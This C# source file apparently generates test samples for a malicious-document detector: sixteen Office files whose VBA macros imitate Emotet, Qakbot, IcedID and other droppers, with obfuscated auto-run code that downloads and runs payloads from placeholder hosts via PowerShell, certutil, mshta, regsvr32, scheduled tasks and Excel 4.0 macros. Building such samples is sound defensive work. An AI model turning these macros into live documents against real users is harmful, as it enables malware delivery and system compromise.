using System.Globalization;
using System.Text;
using Lurewatch.Samples.Office;

namespace Lurewatch.Samples.Documents;

/// <summary>Documents whose VBA computes what it would run.</summary>
internal static class MacroDocuments
{
    public static IEnumerable<DocumentSample> All() =>
    [
        WmiFiveUrls(), FormCaptions(), Properties(), Variables(), AlternativeTexts(), BodyText(), DownloadAndShell(), DroppedApplication(), Browser(), Task(), Arrays(), Classes(), BatchByPrint(), Declared(), ControlTips(), SheetByMacro(),
    ];

    private static byte[] Utf16(string text) => Encoding.Unicode.GetBytes(text);

    private static byte[] Word(string text, VbaProjectWriter project) => new WordBinary { Text = text + "\r", Streams = project.Streams("Macros/") }.ToBytes();

    private static string Junk(string text, string junk) => string.Join(junk, text.Chunk(2).Select(pair => new string(pair)));

    private static DocumentSample WmiFiveUrls()
    {
        string[] urls = ["http://one.example/a/", "http://two.example/b/", "http://three.example/c/", "http://four.example/d/", "http://five.example/e/"];
        return new("wmi-five-urls.doc", "September 2019, Emotet: AutoOpen, WMI, base64 PowerShell, five addresses split at @.", Payloads.EmotetLikeDoc(urls), urls);
    }

    private static DocumentSample FormCaptions()
    {
        string[] urls = ["http://one.example/wp-admin/Ab1/", "https://two.example/cgi-bin/x/", "http://three.example/~u/q9/"];
        var script = $"$Kz='{string.Join('*', urls)}'.\"sP`LIt\"([char]42);foreach($u in $Kz){{try{{(.('new-'+'object') NET.weBclIenT).\"DOwnLOaD`FiLe\"($u,$env:userprofile+'\\284.exe');If ((.('Get'+'-Item') $env:userprofile\\284.exe).\"leN`gth\" -ge 30000){{[wmiclass]'win32_Process'.Create($env:userprofile+'\\284.exe');break}}}}catch{{}}}}";
        var command = "powershell -w hidden -en " + Convert.ToBase64String(Utf16(script));
        var project = new VbaProjectWriter()
            .AddForm("Zq81", "", [new("TextBox", "t1") { Value = Junk(command, "*+]") }, new("Label", "l1") { Caption = "w*+]in*+]32*+]_P*+]ro*+]ce*+]ss" }, new("Frame", "f1") { Inner = [new("TextBox", "t2") { Tag = "win*+]mgmt*+]s:" }] }], tag: "*+]")
            .Add("ThisDocument", """""
                Attribute VB_Name = "ThisDocument"
                Private Sub Document_open()
                Wk3s
                End Sub

                """"")
            .Add("Module2", """""
                Attribute VB_Name = "Module2"
                Function Wk3s()
                On Error Resume Next
                 Dim ssi As Object
                   jq = 4 + 3: If jq > 90 Then jq = Sin(jq)
                lq = Zq81.f1.Controls(0).Tag
                w9 = Dd(lq + Zq81.l1)
                Set ssi = GetObject(w9 + "Startup")
                ssi.ShowWindow = Oct(0) + Hex(0)
                Do While GetObject(w9).Create(Dd(Zq81.t1.Value), x, ssi, pid)
                Loop
                End Function
                Function Dd(a)
                   s = Split(a, Zq81.Tag)
                   Dd = Join(s, "")
                End Function

                """"");
        return new("form-caption.doc", "December 2019 to 2020, Emotet: the command lies in a form's text box with junk between its letters, the addresses are split at *.", Word("Enable editing", project), urls);
    }

    private static DocumentSample Properties()
    {
        const string Url = "http://one.example/inv/load.php";
        var command = $"powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('{Url}')\"";
        var hidden = new string([.. command.Replace("e", "#qq#", StringComparison.Ordinal).Reverse()]);
        var package = OfficePackage.Word(OfficePackage.Paragraph("Confidential"), macros: true)
            .Properties([("description", hidden), ("title", "WScript.Sh#qq#ll")], custom: [("key", "#qq#")])
            .Macros(new VbaProjectWriter().Add("ThisDocument", """""
                Attribute VB_Name = "ThisDocument"
                Sub AutoOpen()
                    Dim k As String, c As String
                    k = ActiveDocument.CustomDocumentProperties("key").Value
                    c = StrReverse(ActiveDocument.BuiltInDocumentProperties("Comments"))
                    With CreateObject(Replace(ThisDocument.BuiltInDocumentProperties.Item("Title").Value, k, "e"))
                        .Run Replace(c, StrReverse(StrReverse(k)), Chr(101)), 0, False
                    End With
                End Sub

                """"").ToBin());
        return new("properties.docm", "2019 and 2020, TrickBot and Ursnif: the command is the document's comment, reversed and with letters replaced by a key of another property.", package.ToBytes(), Url);
    }

    private static DocumentSample Variables()
    {
        const string Url = "https://one.example/docs/update.dll";
        var hex = Convert.ToHexStringLower(Encoding.ASCII.GetBytes($"certutil -urlcache -split -f {Url} %TEMP%\\u.dll & rundll32 %TEMP%\\u.dll,DllMain"));
        var project = new VbaProjectWriter().Add("ThisDocument", """""
            Attribute VB_Name = "ThisDocument"
            Private Sub Document_Close()
                Dim i As Integer, v$, s$
                For Each x In ActiveDocument.Variables
                    If Left(x.Name, 2) = "vq" Then v = v & x.Value
                Next x
                For i = 1 To Len(v) Step 2
                    s = s & ChrW(CLng("&H" & Mid$(v, i, 2)))
                Next
                VBA.Interaction.Shell Environ$("COMSPEC") & " /c " & s, vbHide
            End Sub

            """"");
        return new("variables.doc", "2020, IcedID: document variables hold the command in hexadecimal.",
            new WordBinary { Text = "Invoice\r", Variables = [("vq1", hex[..40]), ("other", "zz"), ("vq2", hex[40..])], Streams = project.Streams("Macros/") }.ToBytes(), Url);
    }

    private static DocumentSample AlternativeTexts()
    {
        const string Url = "http://one.example/tkr.hta";
        var project = new VbaProjectWriter().Add("Module1", """""
            Attribute VB_Name = "Module1"
            Public Const off As Long = 3
            Sub auto_open()
                Dim r As String, n As Long
                r = ActiveDocument.Shapes("frame7").AlternativeText
                For n = 1 To Len(r)
                    r = Mid(r, 1, n - 1) & Chr(Asc(Mid(r, n, 1)) - off) & Mid(r, n + 1)
                Next n
                Dim sh: Set sh = CreateObject("Shell.Application")
                sh.ShellExecute Split(r, "|")(0), Split(r, "|")(1), "", "open", 0
            End Sub
            Sub AutoOpen()
                Call auto_open
            End Sub

            """"");
        var shifted = new string([.. $"mshta|{Url}".Select(c => (char)(c + 3))]);
        return new("alternative-text.doc", "2018 to 2021, Gozi and others: a picture's alternative text, each letter shifted by three.", new WordBinary { Text = "x\r", Shapes = [("logo", "Logo"), ("frame7", shifted)], Streams = project.Streams("Macros/") }.ToBytes(), Url);
    }

    private static DocumentSample BodyText()
    {
        const string Url = "https://one.example/a/b.php?id=7";
        var script = $"Set h=CreateObject(\"MSXML2.ServerXMLHTTP\"):h.open \"GET\",\"{Url}\",False:h.send:Execute h.responseText";
        var encoded = Convert.ToBase64String(Encoding.ASCII.GetBytes(script));
        var project = new VbaProjectWriter().Add("ThisDocument", """""
            Attribute VB_Name = "ThisDocument"
            Sub Document_Open()
                Dim t, p, f
                t = ActiveDocument.Paragraphs(2).Range.Text
                t = Left(t, Len(t) - 1)
                p = Environ("PUBLIC") & "\Libraries\" & "note" & ".vbs"
                Set dom = CreateObject("MSXML2.DOMDocument")
                Set el = dom.createElement("b")
                el.DataType = "bin.base64"
                el.Text = t
                Set st = CreateObject("ADODB.Stream")
                st.Type = 1: st.Open
                st.Write el.nodeTypedValue
                st.SaveToFile p, 2
                CreateObject("WScript.Shell").Exec "wscript //nologo //b """ & p & """"
            End Sub

            """"");
        return new("body-text.doc", "2021, several: white text in the body is base64 of a script, which is written and started.", Word("Page 1 of 4\r" + encoded, project), Url);
    }

    private static DocumentSample DownloadAndShell()
    {
        const string Url = "http://one.example/m/dr.exe";
        return new("download.docm", "2015 to 2019, Dridex and Nanocore: XMLHTTP fetches, ADODB.Stream writes, Shell runs; names by CallByName.", MacroDocument.Docm([("ThisDocument", """""
            Attribute VB_Name = "ThisDocument"
            Sub Workbook_Open()
                AutoOpen
            End Sub
            Sub AutoOpen()
                Dim a As Object, u As Variant, o As String
                u = Array(104, 116, 116, 112, 58, 47, 47, 111, 110, 101, 46, 101, 120, 97, 109, 112, 108, 101, 47, 109, 47, 100, 114, 46, 101, 120, 101)
                For i = LBound(u) To UBound(u): o = o & Chr$(u(i)): Next
                Set a = CreateObject("Microsoft." & "XMLHTTP")
                CallByName a, "Op" & "en", VbMethod, "G" & "ET", o, False
                CallByName a, "Send", 1
                If a.Status = 200 Then
                    Set s = CreateObject("Adodb.Stream")
                    s.Open: s.Type = 1
                    s.write a.responseBody
                    s.savetofile Environ("tmp") & "\d.exe", 2
                    s.Close
                End If
                Shell Environ("tmp") & "\d.exe", 0
            End Sub

            """"")]), Url);
    }

    private static DocumentSample DroppedApplication()
    {
        const string Url = "https://one.example/i/h.jpg";
        return new("dropped-application.doc", "June 2021, IcedID and Ursnif: a macro writes an HTML application line by line and starts it; the script inside fetches.", MacroDocument.Doc([("ThisDocument", "Attribute VB_Name = \"ThisDocument\"\r\n"), ("Module1", """""
            Attribute VB_Name = "Module1"
            Sub AutoOpen()
                q "c:\users\public\main.h" & "ta"
            End Sub
            Sub q(p As String)
                Open p For Output As #1
                Print #1, "<html><body><script language=""VBScript"">"
                Print #1, Mid("xxSet w = CreateObject(""WScript.Shell"")", 3)
                Print #1, "w.Run ""powershell -c iwr -Uri ""&Replace(""https://one.ex!!!ample/i/h.jpg"",""!!!"","""")&"" -OutFile c:\users\public\h.jpg"", 0"
                Print #1, "self.close</scr" & "ipt></body></html>"
                Close #1
                CreateObject(StrReverse("llehs.tpircsw")).Run "mshta " & p
            End Sub

            """"")]), Url);
    }

    private static DocumentSample Browser()
    {
        const string Url = "http://one.example/p.ps1";
        return new("shell-window.doc", "2020, Qakbot and Emotet's testers: an object of Explorer is asked by its class id to start the command, so that Word is not its parent.", MacroDocument.Doc([("ThisDocument", """""
            Attribute VB_Name = "ThisDocument"
            Private Sub Document_Open()
                Dim b As Object
                Set b = GetObject("new:" & "9BA05972-F6A8-11CF-A442-00A0C90A8F39")
                b.Item().Document.Application.ShellExecute "powershell", "-ep bypass -c " & Chr(34) & "iex((New-Object Net.WebClient).DownloadString('ht" & "tp://one.example/p.ps1'))" & Chr(34), "C:\Windows\System32", Null, 0
            End Sub

            """"")]), Url);
    }

    private static DocumentSample Task()
    {
        const string Url = "https://one.example/t.sct";
        return new("task.doc", "2022, espionage groups: a scheduled task starts regsvr32 with a scriptlet from a server.", MacroDocument.Doc([("ThisDocument", """""
            Attribute VB_Name = "ThisDocument"
            Sub AutoOpen()
                Set s = CreateObject("Schedule.Service")
                s.Connect
                Set f = s.GetFolder("\")
                Set d = s.NewTask(0)
                Set t = d.Triggers.Create(1)
                t.StartBoundary = "2022-01-01T08:00:00"
                Set a = d.Actions.Create(0)
                a.Path = "regsvr32.exe"
                a.Arguments = "/s /n /u /i:" & Join(Array("https:/", "one.example", "t.sct"), "/") & " scrobj.dll"
                f.RegisterTaskDefinition "Updater", d, 6, , , 3
            End Sub

            """"")]), Url);
    }

    private static DocumentSample Arrays()
    {
        const string Url = "http://one.example/x/y.exe";
        var key = "Kd8"u8.ToArray();
        var code = Encoding.ASCII.GetBytes($"powershell -c (New-Object System.Net.WebClient).DownloadFile('{Url}',$env:TEMP+'\\y.exe');Start-Process ($env:TEMP+'\\y.exe')");
        var numbers = string.Join(", ", code.Select((b, i) => (b ^ key[i % key.Length]).ToString(CultureInfo.InvariantCulture)));
        var lines = string.Join(" _\r\n    ", numbers.Chunk(300).Select(part => new string(part)));
        return new("xor-array.doc", "2016 until today, commodity builders: an array of numbers against a key of letters, Select Case as a maze.", MacroDocument.Doc([("ThisDocument", "Attribute VB_Name = \"ThisDocument\"\r\nSub Document_Open()\r\nM.Start\r\nEnd Sub\r\n"), ("M", $$"""""
            Attribute VB_Name = "M"
            Private pos As Byte
            Public Sub Start()
                Dim state As Integer: state = 7
                Do
                    Select Case state
                        Case 1 To 3: Exit Do
                        Case 7: t = Dec(Array({{lines}}), "Kd8"): state = state + 1
                        Case Is > 7: GoTo go_on
                        Case Else: state = 1
                    End Select
                Loop While True
            go_on:
                Dim w As New WshShell
                w.Run t, 0
            End Sub
            Private Function Dec(ByRef a As Variant, ByVal k As String) As String
                Dim i&: Dim r() As Byte
                ReDim r(0 To UBound(a))
                For i = 0 To UBound(a)
                    r(i) = a(i) Xor Asc(Mid$(k, (i Mod Len(k)) + 1, 1))
                Next i
                Dec = StrConv(r, vbUnicode)
            End Function

            """"")]), Url);
    }

    private static DocumentSample Classes()
    {
        const string Url = "http://one.example/cl";
        return new("class-module.docm", "2021, loaders of several crews: a class with properties puts the text together, an error handler is the way on, Application.Run the call.", MacroDocument.Docm([("ThisDocument", """""
            Attribute VB_Name = "ThisDocument"
            Private WithEvents app As Application
            Sub AutoExec()
                On Error GoTo further
                Err.Raise 5
                Exit Sub
            further:
                Application.Run "Module1.Go", "lc"
            End Sub

            """""), ("Module1", """""
            Attribute VB_Name = "Module1"
            Type part
                a As String
                b(1 To 2) As String
            End Type
            Sub Go(ByVal s As String)
                Dim c As New Builder, p As part
                p.a = "http://one.ex": p.b(1) = "ample/": p.b(2) = StrReverse(s)
                c.Add p.a: c.Add p.b(1): c.Add p.b(2)
                Let c.Program = "msiexec"
                GetObject("winmgmts:{impersonationLevel=impersonate}!\\.\root\cimv2").Get("Win32_Process").Create c.Line
            End Sub

            """""), ("Builder", """""
            VERSION 1.0 CLASS
            Attribute VB_Name = "Builder"
            Private all As String
            Private prog As String
            Public Sub Add(x As String)
                all = all & x
            End Sub
            Public Property Let Program(v As String)
                prog = v
            End Property
            Public Property Get Line() As String
                Line = prog & " /q /i " & all
            End Property

            """"")]), Url);
    }

    private static DocumentSample BatchByPrint()
    {
        const string Url = "https://one.example/z.zip";
        return new("batch.doc", "2022, Formbook and AsyncRAT: a batch file is written by FileSystemObject and started by WMI's StdRegProv run key and at once.", MacroDocument.Doc([("ThisDocument", """""
            Attribute VB_Name = "ThisDocument"
            Sub AutoOpen()
                Const HKCU = &H80000001
                Dim fso: Set fso = CreateObject("Scripting.FileSystemObject")
                Dim p: p = fso.GetSpecialFolder(2) & "\" & fso.GetBaseName("x/upd.tmp") & ".bat"
                With fso.CreateTextFile(p, True)
                    .WriteLine "@echo off"
                    .WriteLine "set u=https://one.example"
                    .WriteLine "curl.exe -L -o %temp%\z.zip %u%/z.zip"
                    .Close
                End With
                Set reg = GetObject("winmgmts:{impersonationLevel=impersonate}!\\.\root\default:StdRegProv")
                reg.SetStringValue HKCU, "Software\Microsoft\Windows\CurrentVersion\Run", "upd", p
                Shell p, 0
            End Sub

            """"")]), Url);
    }

    private static DocumentSample Declared()
    {
        const string Url = "http://one.example/lib.dll";
        return new("declared.doc", "2019 to 2022, Hancitor and Zloader: functions of Windows are declared under other names, one fetches, the other starts.", MacroDocument.Doc([("ThisDocument", """""
            Attribute VB_Name = "ThisDocument"
            #If VBA7 Then
            Private Declare PtrSafe Function getit Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long
            Private Declare PtrSafe Function runit Lib "shell32.dll" Alias "ShellExecuteA" (ByVal h As LongPtr, ByVal o As String, ByVal f As String, ByVal p As String, ByVal d As String, ByVal s As Long) As LongPtr
            #Else
            Private Declare Function getit Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long
            #End If
            Sub Document_Open()
                Dim u As String * 26
                u = "http://" & LCase("ONE.EXAMPLE") & Trim("  /lib.dll  ")
                If getit(0, u, "C:\ProgramData\lib.dll", 0, 0) = 0 Then runit 0, vbNullString, "rundll32.exe", "C:\ProgramData\lib.dll,Start", vbNullString, 0
            End Sub

            """"")]), Url);
    }

    private static DocumentSample ControlTips()
    {
        string[] urls = ["https://one.example/fs/aa.php", "https://two.example/fs/bb.php"];
        var project = new VbaProjectWriter()
            .AddForm("UserForm1", "calc", [new("CommandButton", "B1") { Caption = "&H1", Tip = "powershell -C $l='" + urls[0] + "," }, new("ComboBox", "C1") { Value = urls[1] + "'.Split(',');", Tag = "foreach($x in $l){Invoke-WebRequest -Uri $x -OutFile $env:APPDATA\\r.exe}" }], source: """""
                Private Sub UserForm_Initialize()
                    Me.Tag = B1.ControlTipText & C1.Text & C1.Tag
                End Sub
                Private Sub UserForm_Activate()
                    Dim i
                    For i = 1 To 3
                        If i = Val(B1.Caption) Then Shell Me.Tag, vbHide
                    Next
                    Unload Me
                End Sub

                """"")
            .Add("ThisDocument", """""
                Attribute VB_Name = "ThisDocument"
                Sub AutoOpen()
                    UserForm1.Show vbModeless
                End Sub

                """"");
        return new("control-tips.docm", "2020, Ursnif in Italy: a form shows itself, its own events run; tips and tags of controls hold the command.", OfficePackage.Word("", macros: true).Macros(project.ToBin()).ToBytes(), urls);
    }

    private static DocumentSample SheetByMacro()
    {
        string[] urls = ["http://one.example/sept/44494.dat", "https://two.example/sept/44494.dat"];
        return new("sheet-by-macro.xls", "October and November 2021, Qakbot: VBA adds a sheet of Excel 4.0 macros, writes their formulas into it and runs them from there.", MacroDocument.Xls([("ThisWorkbook", "Attribute VB_Name = \"ThisWorkbook\"\r\n"), ("Module1", """""
            Attribute VB_Name = "Module1"
            Sub auto_open()
                On Error Resume Next
                Application.ScreenUpdating = False
                Set Fera = Excel4IntlMacroSheets
                Fera.Add.Name = "Drez" & "den"
                Sheets("Drezden").Visible = False
                Sheets("Drezden").Range("A1:M100").Font.Color = vbWhite
                Sheets("Drezden").Range("H24") = "http://one." & "example/sept/"
                Sheets("Drezden").Range("H25") = "https://two." & "example/sept/"
                Sheets("Drezden").Range("K17") = "=INT(NOW())"
                Sheets("Drezden").Range("K18") = ".d" & "at"
                Sheets("Drezden").Range("I9") = "uRlMon"
                Sheets("Drezden").Range("I10") = "URLDown" & "loadToFileA"
                Sheets("Drezden").Range("I11") = "JJCCBB"
                Sheets("Drezden").Range("I12") = "Byukilos"
                Sheets("Drezden").Range("G10") = "..\Drezd.red"
                Sheets("Drezden").Range("G11") = "..\Drezd1.red"
                Sheets("Drezden").Range("I17") = "regsvr32 -silent ..\Drezd.red"
                Sheets("Drezden").Range("H9") = "=" & "REGISTER(I9,I10,I11,I12,,1,9)"
                Sheets("Drezden").Range("H10") = "=" & "Byukilos(0,H24&K17&K18,G10,0,0)"
                Sheets("Drezden").Range("H11") = "=" & "Byukilos(0,H25&K17&K18,G11,0,0)"
                Sheets("Drezden").Range("H17") = "=" & "EXEC(I17)"
                Sheets("Drezden").Range("H22") = "=HALT()"
                Application.Run Sheets("Drezden").Range("H1")
                Application.DisplayAlerts = False
                Sheets("Drezden").Delete
            End Sub

            """"")], [("Sheet1", 0, 0)]), urls);
    }
}
